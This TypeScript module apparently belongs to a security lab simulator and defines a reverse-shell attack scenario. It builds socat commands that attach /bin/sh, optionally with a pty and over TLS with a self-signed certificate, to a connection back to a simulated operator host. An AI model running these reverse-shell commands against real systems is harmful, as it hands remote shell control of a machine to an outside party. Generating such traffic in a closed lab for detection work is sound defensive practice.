import { join } from 'node:path';
import type { Attack, Lab, TimeWindow } from '../scenario.ts';
import { beside, untilReady } from './beside.ts';
import { towards } from './footprint.ts';

/** A shell on a taken-over machine whose input comes from a person on the internet. */
export interface ReverseShell {
  readonly attacker: number;
  readonly port: number;
  readonly tls: boolean;
  /** lines: a command goes out as a whole. keys: each letter by itself, and a terminal echoes it. */
  readonly typing: 'lines' | 'keys';
  /** Pauses in which the person reads and thinks. */
  readonly meanPauseMs: number;
  readonly seed: number;
}

/** What `operator-main.ts` is told: a certificate only where the shell comes by TLS. */
export interface OperatorSettings {
  readonly seed: number;
  readonly address: string;
  readonly port: number;
  readonly typing: ReverseShell['typing'];
  readonly meanPauseMs: number;
  readonly certificate: { readonly key: string; readonly cert: string } | null;
}

const OPERATOR = join(import.meta.dirname, 'programs', 'operator-main.ts');

/** The attack, until its window is over: socat's EXEC on one side, somebody who types on the other. */
export function reverseShell(shell: ReverseShell, window: TimeWindow): Attack {
  return {
    ...window,
    family: 'reverse-shell',
    async play(lab, signal) {
      const { remote, attackers } = lab.hosts;
      const { seed, port, typing, meanPauseMs } = shell;
      const certificate = shell.tls ? await makeCertificate(shell, lab, signal) : null;
      const settings: OperatorSettings = { seed, port, typing, meanPauseMs, address: remote.ip, certificate };
      const operator = [process.execPath, OPERATOR, JSON.stringify(settings)];
      const attack = async (until: AbortSignal) => {
        const question = ['socat', '-u', 'OPEN:/dev/null', `TCP:${remote.ip}:${port}`];
        await untilReady(lab, remote, question, until);
        await lab.run(attackers[shell.attacker], shellCommand(shell, remote.ip), until);
      };
      await beside([(until) => lab.run(remote, operator, until)], attack, signal);
    },
    footprint: towards(shell.attacker, { victim: 'remote', port: shell.port }),
  };
}

function shellCommand(shell: ReverseShell, ip: string): string[] {
  const to = shell.tls ? `OPENSSL:${ip}:${shell.port},verify=0` : `TCP:${ip}:${shell.port}`;
  const how = shell.typing === 'keys' ? 'EXEC:/bin/sh -i,pty,stderr,setsid,sigint,sane' : 'EXEC:/bin/sh,stderr';
  return ['socat', `${to},retry=5,interval=0.5`, how];
}

async function makeCertificate(shell: ReverseShell, lab: Lab, signal: AbortSignal) {
  const [key, cert] = ['key', 'crt'].map((ending) => join(lab.scratch, `operator-${shell.attacker}.${ending}`));
  const request =
    'openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 -subj /CN=localhost';
  await lab.run(lab.hosts.remote, [...request.split(' '), '-keyout', key, '-out', cert], signal);
  return { key, cert };
}
